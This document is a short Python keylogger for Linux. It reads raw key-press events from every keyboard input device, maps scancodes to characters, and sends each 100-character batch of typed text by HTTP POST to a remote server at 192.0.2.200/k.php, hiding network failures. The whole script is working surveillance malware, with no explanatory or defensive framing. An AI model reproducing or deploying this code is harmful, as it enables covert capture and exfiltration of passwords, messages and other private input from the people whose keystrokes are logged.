import glob
import selectors
import struct
import urllib.parse
import urllib.request

FMT = "llHHi"
ROWS = {16: "qwertyuiop", 30: "asdfghjkl", 44: "zxcvbnm", 2: "1234567890"}
MAP = {base + i: ch for base, row in ROWS.items() for i, ch in enumerate(row)}
MAP.update({57: " ", 28: "\n", 52: ".", 12: "-"})


def send(txt):
    data = urllib.parse.urlencode({"k": txt}).encode()
    try:
        urllib.request.urlopen("http://192.0.2.200/k.php", data, timeout=3)
    except OSError:
        pass


sel = selectors.DefaultSelector()
for dev in glob.glob("/dev/input/by-path/*-event-kbd"):
    sel.register(open(dev, "rb", buffering=0), selectors.EVENT_READ)

buf = ""
while True:
    for k, _ in sel.select():
        _, _, typ, code, val = struct.unpack(FMT, k.fileobj.read(struct.calcsize(FMT)))
        if typ == 1 and val == 1 and code in MAP:
            buf += MAP[code]
    if len(buf) >= 100:
        send(buf)
        buf = ""
